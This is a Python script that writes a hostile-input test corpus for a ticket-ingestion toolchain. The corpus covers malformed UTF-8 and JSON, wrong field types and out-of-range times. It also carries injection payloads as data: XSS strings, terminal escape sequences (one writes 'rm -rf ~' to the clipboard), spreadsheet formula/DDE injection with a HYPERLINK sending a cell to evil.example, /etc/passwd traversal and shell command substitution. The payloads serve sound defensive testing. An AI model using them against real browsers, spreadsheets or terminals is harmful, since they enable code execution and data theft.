#!/usr/bin/env python3
# make-corpus.py: writes the hostile-input corpus of test/hostile.bats into
# the directory given (default: this script's own), byte for byte as it is
# checked in.  The files are small; the 100 MB ones come from make-big.sh.
# Each file is described in README.  Run it again after changing it and
# commit what it writes, so the checked-in bytes and this script agree.
import json
import os
import sys

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
TS = "2026-11-22T02:15:00Z"

# Payloads that must stay data: in a browser, a spreadsheet, a terminal,
# a Markdown viewer and a file system.  Every one goes in every string field.
PAYLOADS = [
    ("rtl", "abc\u202egpj.exe\u202c def"),
    ("zero-width", "zero\u200bwidth\u2060joiner\ufeffbom mid-text"),
    ("combining", "Z" + "\u0336\u0301\u0308" * 200),
    ("ansi-clear", "\x1b[2J\x1b[Hscreen cleared"),
    ("osc8-link", "\x1b]8;;http://evil.example/\x07click me\x1b]8;;\x07"),
    ("osc52-clipboard", "\x1b]52;c;cm0gLXJmIH4K\x07copied"),
    ("c1-csi", "\u009b31mred\u009b0m \u0085nel \u008dri"),
    ("bell-bs-del", "ding\x07\x08\x08\x7fback"),
    ("cr-overwrite", "all good\rHACKED  "),
    ("script", "<script>alert(1)</script>"),
    ("img-onerror", "\"><img src=x onerror=alert(1)>"),
    ("style-break", "</style><script>alert(2)</script></title></textarea>"),
    ("svg-onload", "<svg/onload=alert(3)>'><iframe src=javascript:alert(4)>"),
    ("js-url", "javascript:alert(5)"),
    ("md-link", "[click](javascript:alert(6)) ![x](http://evil.example/x.png) <http://evil.example/>"),
    ("md-html", "<a href=\"http://evil.example/\">here</a> <!-- c --> | a | b |\n---"),
    ("formula-eq", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("formula-dde", "+cmd|' /C calc'!A0"),
    ("formula-minus", "-2+3"),
    ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula-tab", "\t=1+1"),
    ("formula-cr", "\r=1+1"),
    ("path-dotdot", "../../../../etc/passwd"),
    ("path-dev", "/dev/stdout"),
    ("path-win", "C:\\Windows\\System32\\cmd.exe"),
    ("path-newline", "report\n.html"),
    ("shell", "$(touch pwned) `touch pwned2` ; touch pwned3 | tee pwned4"),
    ("printf", "%s%s%s%n%x%p"),
    ("quotes", "it's \"quoted\" \\ back\\slash"),
]

# The string fields of DESIGN.md 2 (and lifecycle events), as paths.
STRING_FIELDS = [
    "id", "channel", "source.file", "source.ref", "customer.id",
    "customer.tier", "order_id", "sku", "product_category",
    "region.province", "region.city", "region.district", "text", "lang",
    "category", "emotion", "priority", "route.queue", "route.skill",
    "route.rule", "sla.policy", "my_field",
]

# Owned fields and what type each should be: the wrong types are all the others.
OWNED = [
    ("id", "s"), ("ts", "s"), ("channel", "s"), ("source", "o"),
    ("source.file", "s"), ("source.line", "n"), ("source.ref", "s"),
    ("customer", "o"), ("customer.id", "s"), ("customer.tier", "s"),
    ("customer.annual_spend", "n"), ("customer.flags", "a"),
    ("order_id", "s"), ("sku", "s"), ("product_category", "s"),
    ("region", "o"), ("region.province", "s"), ("region.city", "s"),
    ("region.district", "s"), ("text", "s"), ("lang", "s"), ("rating", "n"),
    ("attachments", "o"), ("attachments.images", "n"),
    ("attachments.videos", "n"), ("tags", "a"), ("category", "s"),
    ("sentiment", "o"), ("sentiment.label", "s"), ("sentiment.score", "n"),
    ("emotion", "s"), ("quality", "n"), ("priority", "s"), ("urgency", "n"),
    ("rank_factors", "o"), ("route", "o"), ("route.queue", "s"),
    ("route.skill", "s"), ("route.escalate", "a"),
    ("route.notify_within", "s"), ("route.rule", "s"), ("sla", "o"),
    ("sla.policy", "s"), ("sla.first_response_due", "s"), ("type", "s"),
    ("event", "s"), ("agent", "s"), ("score", "n"),
]
WRONG = {"s": '"str"', "n": "7", "a": '["a",1,null]', "o": '{"k":"v"}',
         "null": "null", "b": "true", "neg": "-1", "big": "1e400",
         "emptyo": "{}", "emptya": "[]"}


def write(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))


def jstr(s):
    return json.dumps(s, ensure_ascii=False)


def set_path(rec, path, value):
    parts = path.split(".")
    for p in parts[:-1]:
        rec = rec.setdefault(p, {})
    rec[parts[-1]] = value


def base_record(n, **kw):
    rec = {"id": "h-%d" % n, "ts": TS, "channel": "app",
           "customer": {"id": "c-%d" % n},
           "text": "the parcel arrived broken, refund please"}
    rec.update(kw)
    return rec


def line(rec):
    return json.dumps(rec, ensure_ascii=False, separators=(",", ":")) + "\n"


# utf8.ndjson: bad UTF-8 and escapes.  Lines named "bad-*" must be
# rejected by every tool; "ok-*" lines are valid JSON and must pass.
def utf8():
    pre = '{"id":"%s","ts":"' + TS + '","text":"'
    cases = [
        ("bad-lone-cont", b"\x80 lone continuation"),
        ("bad-cont-run", b"\xbf\xbf\xbf"),
        ("bad-trunc2", b"\xc3"),
        ("bad-trunc3", b"\xe4\xbd"),
        ("bad-trunc4", b"\xf0\x9f\x98"),
        ("bad-trunc-mid", b"\xe4\xbd x"),
        ("bad-surrogate-d800", b"\xed\xa0\x80"),
        ("bad-surrogate-dfff", b"\xed\xbf\xbf"),
        ("bad-surrogate-pair", b"\xed\xa0\xbd\xed\xb8\x80"),
        ("bad-past-10ffff", b"\xf4\x90\x80\x80"),
        ("bad-f5", b"\xf5\x80\x80\x80"),
        ("bad-ff", b"\xff\xfe"),
        ("bad-overlong-c080", b"\xc0\x80"),
        ("bad-overlong-c1bf", b"\xc1\xbf"),
        ("bad-overlong-e08080", b"\xe0\x80\x80"),
        ("bad-overlong-slash", b"\xe0\x80\xaf"),
        ("bad-overlong-f0808080", b"\xf0\x80\x80\x80"),
        ("bad-overlong-f8", b"\xf8\x88\x80\x80\x80"),
        ("bad-nul-raw", b"a\x00b"),
        ("bad-esc-raw", b"\x1b[2J raw control in a JSON string"),
        ("bad-cr-raw", b"a\rb"),
        ("bad-lone-high", b"\\ud800 x"),
        ("bad-lone-low", b"\\udc00 x"),
        ("bad-high-high", b"\\ud800\\ud800"),
        ("bad-low-high", b"\\udfff\\ud800"),
        ("bad-high-end", b"\\udbff"),
        ("bad-short-escape", b"\\u12"),
        ("bad-bad-escape", b"\\x41"),
        ("ok-escaped-nul", b"before\\u0000after"),
        ("ok-escaped-controls", b"\\u001b[2J\\u0007\\u0008\\u007f\\u009b\\r"),
        ("ok-pair", b"\\ud83d\\ude00 pair"),
        ("ok-max", b"\\udbff\\udfff max"),
        ("ok-bom-escape", b"\\ufeff\\u200b\\u202e"),
        ("ok-raw-max", b"\xf4\x8f\xbf\xbf \xef\xbf\xbf \xef\xbb\xbf"),
    ]
    out = b""
    for name, body in cases:
        out += (pre % name).encode() + body + b'"}\n'
    # in keys, not only values
    out += b'{"id":"bad-key-utf8","ts":"' + TS.encode() + b'","t\xffext":"x"}\n'
    out += b'{"id":"ok-key-nul","ts":"' + TS.encode() + b'","te\\u0000xt":"x","\\u0074ext":"escaped key"}\n'
    # a UTF-8 BOM at the start of a line in the middle of a stream
    out += b'\xef\xbb\xbf{"id":"bom-line","ts":"' + TS.encode() + b'","text":"x"}\n'
    write("utf8.ndjson", out)


# json.ndjson: structure: nesting, long arrays, many keys, duplicates,
# numbers out of range, JSON that is not an object.
def structure():
    L = []
    L.append('{"id":"deep-511","ts":"%s","x":%s%s}\n' % (TS, "[" * 511, "]" * 511))
    L.append('{"id":"deep-600","ts":"%s","x":%s%s}\n' % (TS, "[" * 600, "]" * 600))
    L.append('{"id":"deep-obj","ts":"%s","x":%s1%s}\n' % (TS, '{"a":' * 600, "}" * 600))
    L.append('{"id":"deep-text","ts":"%s","text":%s"t"%s}\n' % (TS, "[" * 600, "]" * 600))
    L.append('{"id":"deep-unclosed","ts":"%s","x":%s\n' % (TS, "[" * 5000))
    L.append('{"id":"dup-text","ts":"%s","text":"first","text":"<script>second</script>"}\n' % TS)
    L.append('{"id":"dup-ts","ts":"%s","ts":"1999-01-01T00:00:00Z","text":"x"}\n' % TS)
    L.append('{"id":"dup-id-1","id":"dup-id-2","ts":"%s","text":"x"}\n' % TS)
    L.append('{"id":"dup-customer","ts":"%s","customer":{"id":"a","id":"b"},"customer":{"id":"c"}}\n' % TS)
    L.append('{"id":"dup-tags","ts":"%s","tags":["a/b"],"tags":"str","tags":["c/d"]}\n' % TS)
    L.append('{"id":"dup-type","ts":"%s","type":"event","type":null,"event":"resolved"}\n' % TS)
    L.append('{"id":"dup-escaped","ts":"%s","text":"a","\\u0074ext":"b"}\n' % TS)
    for name, num in [("big-pos", "1e400"), ("big-neg", "-1e400"),
                      ("long-int", "123456789012345678901234567890"),
                      ("neg-zero", "-0"), ("tiny", "1e-400"),
                      ("neg-long-int", "-123456789012345678901234567890"),
                      ("int64-max", "9223372036854775807"),
                      ("int64-over", "9223372036854775808"),
                      ("int64-min", "-9223372036854775808"),
                      ("many-digits", "1." + "9" * 5000),
                      ("exp-huge", "1e999999999999999999999")]:
        L.append(('{"id":"num-%s","ts":"%s","rating":%s,"urgency":%s,"quality":%s,'
                  '"customer":{"id":"c","annual_spend":%s},"attachments":{"images":%s,"videos":%s},'
                  '"sentiment":{"label":"negative","score":%s},"source":{"file":"f","line":%s},'
                  '"text":"broken"}\n') % ((name, TS) + (num,) * 8))
        L.append('{"type":"event","id":"num-%s","event":"csat","score":%s,"ts":"%s"}\n' % (name, num, TS))
    for name, num in [("nan", "NaN"), ("inf", "Infinity"), ("plus", "+1"),
                      ("lead-zero", "01"), ("dot", "1."), ("hex", "0x10")]:
        L.append('{"id":"badnum-%s","ts":"%s","rating":%s}\n' % (name, TS, num))
    L.append('[]\n')
    L.append('null\n')
    L.append('"string"\n')
    L.append('12\n')
    L.append('{}\n')
    L.append('{"id":"trailing","ts":"%s"} {}\n' % TS)
    L.append('{"id":"trailing-comma","ts":"%s",}\n' % TS)
    L.append('{"id":"single-quote","ts":"%s",\'a\':1}\n' % TS)
    L.append('{"id":"comment","ts":"%s"} // c\n' % TS)
    write("json.ndjson", "".join(L))


# types.ndjson: a value of every wrong type in every owned field; the
# other fields are right, so only that field is wrong.
def types():
    L = []
    n = 0
    for path, want in OWNED:
        for kind, val in WRONG.items():
            if kind == want or (want == "n" and kind in ("neg", "big")):
                continue
            n += 1
            rec = base_record(n)
            if path.startswith(("route", "sla", "sentiment")) and path.split(".")[0] not in rec:
                rec.update({"tags": ["logistics/damaged"], "category": "logistics",
                            "sentiment": {"label": "negative", "score": -0.8},
                            "priority": "P1", "urgency": 0.6,
                            "route": {"queue": "logistics", "skill": "logistics", "escalate": [],
                                      "notify_within": "4h", "rule": "r"},
                            "sla": {"policy": "P1"}})
            if path in ("event", "agent", "score"):
                rec = {"type": "event", "id": "h-1", "event": "csat", "ts": TS, "score": 4, "agent": "a1"}
            txt = line(rec)
            obj = json.loads(txt)
            set_path(obj, path, "@@V@@")
            txt = line(obj).replace('"@@V@@"', val)
            L.append(txt)
    write("types.ndjson", "".join(L))


BAD_TIMES = [
    "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "10000-01-01T00:00:00Z",
    "-1", "1e20", "2026-12-31T23:59:60Z", "2026-02-30T00:00:00Z",
    "2026-11-22T02:15:00+99:99", "1969-12-31T23:59:59Z",
    "2038-01-19T03:14:08Z", "2262-04-11T23:47:17Z", "0000-00-00T00:00:00Z",
    "2026-11-22T24:00:00Z", "2026-11-22T02:15:00.99999999999999999999Z",
    "292277026596-12-04T15:30:07Z", "+002026-11-22T02:15:00Z", "",
    "2026-11-22T02:15:00Z\u202e", "9" * 400,
]


# times.ndjson, times.csv, times.mbox: far past and future times.
def times():
    L = []
    for i, t in enumerate(BAD_TIMES):
        L.append(line(base_record(i, ts=t)))
        L.append(line({"type": "event", "id": "h-%d" % i, "event": "first_response", "ts": t}))
    for i, num in enumerate(["-1", "1e20", "1e400", "-9223372036854775809", "0", "253402300800"]):
        L.append('{"id":"tnum-%d","ts":%s,"text":"numeric ts"}\n' % (i, num))
    write("times.ndjson", "".join(L))
    rows = ["ticket_id,created_at,customer_id,comment"]
    for i, t in enumerate(BAD_TIMES):
        rows.append('T-%d,"%s",C-%d,"broken parcel %d"' % (i, t.replace('"', '""'), i, i))
    write("times.csv", "\r\n".join(rows) + "\r\n")
    dates = ["Mon, 01 Jan 0001 00:00:00 +0000", "Fri, 31 Dec 9999 23:59:59 +0000",
             "Sat, 01 Jan 10000 00:00:00 +0000", "Thu, 31 Dec 2026 23:59:60 +0000",
             "Mon, 30 Feb 2026 00:00:00 +0000", "Sun, 22 Nov 2026 02:15:00 +9999",
             "Sun, 22 Nov 2026 02:15:00 -9999", "Sun, 22 Nov 2026 99:99:99 GMT",
             "-1", "1e20", "", "Sun, 22 Nov 99999999999999999999 02:15:00 +0000"]
    msgs = []
    for i, d in enumerate(dates):
        msgs.append("From x@example.com Sun Nov 22 02:15:00 2026\nFrom: x@example.com\n"
                    "Subject: time %d\nDate: %s\nMessage-ID: <t%d@example.com>\n\n"
                    "the parcel was broken %d\n\n" % (i, d, i, i))
    write("times.mbox", "".join(msgs))


# payload.ndjson: every payload in every string field, one record each.
def payload_ndjson():
    L = []
    for i, (name, p) in enumerate(PAYLOADS):
        rec = {"id": p, "ts": TS, "channel": p,
               "source": {"file": p, "line": 1, "ref": p},
               "customer": {"id": p, "tier": p, "flags": [p, "accessibility"]},
               "order_id": p, "sku": p, "product_category": p,
               "region": {"province": p, "city": p, "district": p},
               "text": "payload %s: %s" % (name, p), "lang": p,
               "tags": [p, "logistics/damaged"], "category": p, "emotion": p,
               "sentiment": {"label": p, "score": -0.9},
               "priority": p, "urgency": 0.9,
               "route": {"queue": p, "skill": p, "escalate": [p], "notify_within": p, "rule": p},
               "sla": {"policy": p}, "my_field": p, p: "payload as a key"}
        L.append(line(rec))
        # the same payload in a record fb-tag and fb-rank would fill in
        L.append(line({"id": "p-%d" % i, "ts": TS, "channel": "app",
                       "customer": {"id": p}, "sku": p,
                       "region": {"province": p, "city": p},
                       "product_category": p,
                       "text": "破损 退款 %s 太差了 damaged refund" % p}))
        L.append(line({"type": "event", "id": "p-%d" % i, "event": "csat",
                       "score": 1, "ts": "2026-11-22T03:00:00Z", "agent": p}))
    write("payload.ndjson", "".join(L))


def csv_cell(s, sep):
    if any(c in s for c in (sep, '"', "\n", "\r")):
        return '"' + s.replace('"', '""') + '"'
    return s


# payload.csv and payload.tsv: the payloads raw (not JSON-escaped) in
# every column fb-ingest knows, plus a column it does not.
def payload_tables():
    head = ["ticket_id", "created_at", "customer_id", "tier", "order", "sku_id",
            "category", "province", "city", "district", "渠道", "stars", "comment", "extra"]
    for sep, name in ((",", "payload.csv"), ("\t", "payload.tsv")):
        rows = [sep.join(head)]
        for i, (pname, p) in enumerate(PAYLOADS):
            if sep == "\t":
                p = p.replace("\t", " ")
            cells = [p, "2026-11-22 10:%02d" % i, p, p, p, p, p, p, p, p, p, p,
                     "payload %s: %s" % (pname, p), p]
            rows.append(sep.join(csv_cell(c, sep) for c in cells))
        write(name, "\r\n".join(rows) + "\r\n")


def qp(s):
    out = ""
    for b in s.encode():
        if b in (0x3d,) or b < 0x20 or b > 0x7e:
            out += "=%02X" % b
        else:
            out += chr(b)
    return out


# payload.mbox and payload.eml: payloads in headers (raw and as encoded
# words), plain and HTML bodies.
def mail():
    import base64
    msgs = []
    for i, (name, p) in enumerate(PAYLOADS):
        enc = "=?UTF-8?B?%s?=" % base64.b64encode(p.encode()).decode()
        raw = p.replace("\n", " ").replace("\r", " ")
        msgs.append(
            "From %s Sun Nov 22 02:15:00 2026\n" % "x@example.com" +
            "From: %s <x%d@example.com>\n" % (enc, i) +
            "Subject: %s\n" % enc +
            "X-Raw: %s\n" % raw +
            "Date: Sun, 22 Nov 2026 10:%02d:00 +0800\n" % i +
            "Message-ID: <%s>\n" % raw +
            "MIME-Version: 1.0\n"
            "Content-Type: multipart/alternative; boundary=\"b%d\"\n\n" % i +
            "--b%d\nContent-Type: text/plain; charset=UTF-8\n"
            "Content-Transfer-Encoding: quoted-printable\n\n%s\n" % (i, qp("payload %s: %s" % (name, p))) +
            "--b%d\nContent-Type: text/html; charset=UTF-8\n\n"
            "<html><body><script>alert(%d)</script><p onclick=x>%s</p></body></html>\n" % (i, i, raw) +
            "--b%d--\n\n" % i)
    write("payload.mbox", "".join(msgs))
    write("payload.eml",
          "From: =?UTF-8?B?%s?= <evil@example.com>\n"
          "To: service@shop.example\n"
          "Subject: =?UTF-8?Q?=1B]8;;http://evil.example/=07click=1B]8;;=07?= %s\n"
          "Date: Sun, 22 Nov 2026 10:15:00 +0800\n"
          "Message-ID: <../../etc/passwd>\n"
          "Content-Type: text/html; charset=UTF-8\n\n"
          "<html><head><style>body{}</style><script>alert(1)</script></head>"
          "<body><p>the parcel \x1b[2J broken</p><img src=x onerror=alert(2)>"
          "<a href=\"javascript:alert(3)\">=HYPERLINK(1)</a></body></html>\n"
          % (base64.b64encode("\x1b[2J\u202eadmin".encode()).decode(), "<script>s</script>"))


# payload.txt: one payload per line, raw (fb-ingest --format text).
def text():
    L = []
    for name, p in PAYLOADS:
        L.append("payload %s: %s" % (name, p.replace("\n", " ").replace("\r", " ")))
    data = ("\n".join(L) + "\n\x1b[2J raw ESC in text\n").encode()
    data += b"a raw \x00 NUL in text\n\xff\xfe bad UTF-8 in text\n"
    write("payload.txt", data)


utf8()
structure()
types()
times()
payload_ndjson()
payload_tables()
mail()
text()
